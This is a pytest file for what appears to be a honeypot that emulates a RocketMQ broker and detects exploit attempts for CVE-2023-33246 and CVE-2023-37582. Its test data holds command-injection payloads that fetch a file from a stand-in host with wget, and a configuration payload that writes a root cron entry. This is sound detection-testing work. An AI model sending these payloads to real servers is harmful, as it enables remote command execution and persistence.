"""RocketMQ: a configuration that is a command, a configuration that is a file, and who only asks."""

from __future__ import annotations

import json
from typing import Any

import pytest

from eudaemon.events.catalogue import CommandEntered, ExploitRecognised
from eudaemon.protocols import rocketmq
from eudaemon.protocols._base import Claim, HalfClosed
from eudaemon.protocols.rocketmq import RocketMq
from eudaemon.testing.script import Table, visit
from eudaemon.wire import Purse


def frame(code: int, body: bytes = b"", **more: Any) -> bytes:
    head = json.dumps({"code": code, "flag": 0, "language": "JAVA", "opaque": 7, "version": 395, **more}).encode()
    return (4 + len(head) + len(body)).to_bytes(4, "big") + len(head).to_bytes(4, "big") + head + body


def talk(bytes_max: int = 32 << 20) -> Table:
    return Table(RocketMq(visit(port=10911, purse=Purse(bytes_max)))).open()


def read(answer: bytes) -> tuple[dict[str, Any], bytes]:
    assert int.from_bytes(answer[:4], "big") == len(answer) - 4
    size = int.from_bytes(answer[4:8], "big")
    return json.loads(answer[8 : 8 + size]), answer[8 + size :]


@pytest.mark.parametrize("split", [0, 1])
@pytest.mark.parametrize("home", [
    "-c $@|sh . echo {};", "-c $@|bash . echo {}", "x; {}", "`{}`",
])  # fmt: skip
def test_a_configuration_that_is_a_command(home: str, split: int) -> None:
    table = talk()
    body = ("filterServerNums=1\nrocketmqHome=" + home.format("wget http://198.51.100.7/x -O /tmp/x")).encode()
    head, said = read(table.say(frame(25, body), split))
    assert (head["code"], head["flag"], head["opaque"], said) == (0, 1, 7, b"")
    (found,) = (fact for fact in table.facts if isinstance(fact, ExploitRecognised))
    assert (found.name, found.reference) == ("rocketmq-configuration", "CVE-2023-33246")
    assert [wish.download.url for wish in table.wishes] == ["http://198.51.100.7/x"]
    assert [keep.data for keep in table.kept] == [body]
    assert b"\nfilterServerNums=1\n" in read(table.say(frame(26), split))[1]
    table.tell(HalfClosed(table.at_s))
    assert not table.over, "what is fetched is waited for"
    table.answer("ok", b"#!/bin/sh\n")
    assert table.over


@pytest.mark.parametrize("split", [0, 1])
def test_a_configuration_that_is_a_file(split: int) -> None:
    table = talk()
    body = b"configStorePath=/var/spool/cron/root\nproductEnvName=a\\n* * * * * id\\n"
    table.say(frame(318, body), split)
    assert ExploitRecognised("rocketmq-file", "CVE-2023-37582", "/var/spool/cron/root") in table.facts
    assert [(keep.data, keep.name) for keep in table.kept] == [(body, "/var/spool/cron/root")]
    assert b"\n* * * * * id\n" in read(table.say(frame(319), split))[1]


def test_who_only_asks() -> None:
    table = talk()
    assert b"brokerName=" in read(table.say(frame(26)))[1]
    assert b"listenPort=9876" in read(table.say(frame(319)))[1]
    assert b'"brokerAddrTable"' in read(table.say(frame(106)))[1]
    assert b"brokerVersionDesc" in read(table.say(frame(28)))[1]
    assert read(table.say(frame(105, extFields={"topic": "TBW102"})))[0]["code"] == 17
    assert table.say(frame(34, flag=2)) == b"", "one way"
    table.say(frame(25, b"# nothing\nflushDiskType=SYNC_FLUSH"))
    lines = [fact.line for fact in table.facts if isinstance(fact, CommandEntered)]
    assert lines[4] == 'GET_ROUTEINFO_BY_TOPIC {"topic": "TBW102"}'
    assert not any(isinstance(fact, ExploitRecognised) for fact in table.facts)


@pytest.mark.parametrize("wrong", [
    b"\0\0\0\x08\1\0\0\4{}  ", b"\0\0\0\x08\0\0\0\4[1] ", b"\0\0\0\x08\0\0\0\4{{{{", b"\0\0\0\4\0\0\0\4",
    b"\x7f\0\0\0\0\0\0\4", b"\0\2\0\0\0\1\0\1",
])  # fmt: skip
def test_what_is_no_frame_ends_it(wrong: bytes) -> None:
    table = talk()
    table.say(wrong)
    assert table.fault


def test_limits() -> None:
    table = talk()
    size = rocketmq.FRAME_BYTES_MAX
    table.say(size.to_bytes(4, "big") + b"\0\0\0\2{}" + bytes(10))
    assert not table.fault
    table.end()
    assert [(keep.data, keep.partial) for keep in table.kept] == [(bytes(10), True)]
    table = talk()
    table.say((size + 1).to_bytes(4, "big") + b"\0\0\0\2{}")
    assert "too large" in table.fault
    table = talk()
    header = b"{%s}" % b" ".rjust(rocketmq.HEADER_BYTES_MAX - 2)
    table.say((4 + len(header)).to_bytes(4, "big") + len(header).to_bytes(4, "big") + header)
    assert not table.fault
    table = talk()
    for _ in range(rocketmq.FRAMES_MAX):
        table.say(frame(34))
    assert not table.fault
    table.say(frame(34))
    assert "frames" in table.fault
    table = talk(100)
    table.say(b"\0\0\1\0\0\0\0\2{}" + bytes(91))
    assert "holds" in table.fault
    table = talk()
    many = "".join(f"a{number}=b\n" for number in range(rocketmq.SET_MAX + 9)).encode()
    table.say(frame(25, many) + frame(25, b"z=1\n"))
    table.sent = b""
    told = read(table.say(frame(26)))[1]
    assert b"a%d=b\n" % (rocketmq.SET_MAX - 1) in told
    assert b"z=1" not in told
    far = b"x=%s\n" % (b"y" * rocketmq.CONFIGURATION_BYTES_MAX) + b"rocketmqHome=;id\n"
    table.say(frame(25, far))
    assert not any(isinstance(fact, ExploitRecognised) for fact in table.facts)


def test_whose_conversation_it_is() -> None:
    claims = [RocketMq.claim(frame(25)[:size]) for size in range(1, 12)]
    assert claims == sorted(claims)
    assert claims[-1] == Claim.YES
    assert RocketMq.claim(b"GET / HTTP/1.1") == Claim.NO
